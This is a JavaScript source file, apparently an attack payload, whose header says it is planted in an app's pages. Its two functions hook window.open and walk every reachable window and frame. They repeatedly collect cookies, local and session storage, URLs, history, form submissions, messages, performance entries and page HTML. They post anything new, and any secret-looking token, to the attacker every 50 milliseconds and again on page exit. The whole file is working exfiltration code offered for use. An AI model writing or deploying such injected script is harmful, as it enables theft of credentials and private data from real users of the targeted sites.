// Planted in the app's pages.

/**
 * Looks again and again into every window that can be reached, the address, the history, the stores and what the browser has
 * noted, and sends the attacker whatever is new.
 */
export function watchAll(evil) {
  const sent = new Set();
  const windows = new Set([globalThis]);
  const { open: original } = globalThis;
  globalThis.open = (...given) => {
    const opened = original(...given);
    windows.add(opened);
    return opened;
  };
  const tell = (value) => {
    const text = evil.strings(value).join("\n");
    if (text && !sent.has(text)) evil.post(text);
    sent.add(text);
  };
  const tries = [
    (w) => w.location.href,
    (w) => w.document.referrer,
    (w) => w.name,
    (w) => [w.history.state],
    (w) => w.navigation.entries().map(({ url }) => url),
    (w) => w.document.cookie,
    (w) => w.performance.getEntries().map((entry) => JSON.stringify(entry)),
    (w) => [Object.entries(w.localStorage), Object.entries(w.sessionStorage)],
    (w) => w.document.documentElement.outerHTML,
  ];
  const look = () => {
    for (const name of ["opener", "parent", "top"]) if (globalThis[name]) windows.add(globalThis[name]);
    for (let at = 0; at < globalThis.length; at += 1) windows.add(globalThis[at]);
    for (const one of windows) {
      for (const attempt of tries) {
        try {
          tell(attempt(one));
        } catch (error) {
          tell(error.message);
        }
      }
    }
  };
  addEventListener("message", ({ data, origin }) => tell([data, origin]));
  addEventListener("securitypolicyviolation", ({ blockedURI, documentURI, sample }) => tell([blockedURI, documentURI, sample]));
  for (const type of ["pagehide", "pageshow", "load", "beforeunload"]) addEventListener(type, look);
  navigation.addEventListener("navigate", ({ destination, formData }) => tell([destination.url, formData && [...formData]]));
  new PerformanceObserver((list) => tell(list.getEntries().map((entry) => JSON.stringify(entry)))).observe({
    entryTypes: PerformanceObserver.supportedEntryTypes,
  });
  new ReportingObserver((reports) => tell(reports.map((report) => JSON.stringify(report))), { buffered: true }).observe();
  setInterval(look, 50);
}

/** With hooks set: sends what they have seen that looks like a secret, the last of it when the page is left. */
export function tellNews(evil) {
  const news = () => evil.news().flatMap((text) => text.match(/[\w.~-]{20,4000}/g) ?? []);
  const tell = (how) => {
    const found = news();
    if (found.length) how(found.join("\n"));
  };
  addEventListener("pagehide", () => tell(evil.beacon));
  setInterval(tell, 50, evil.post);
}
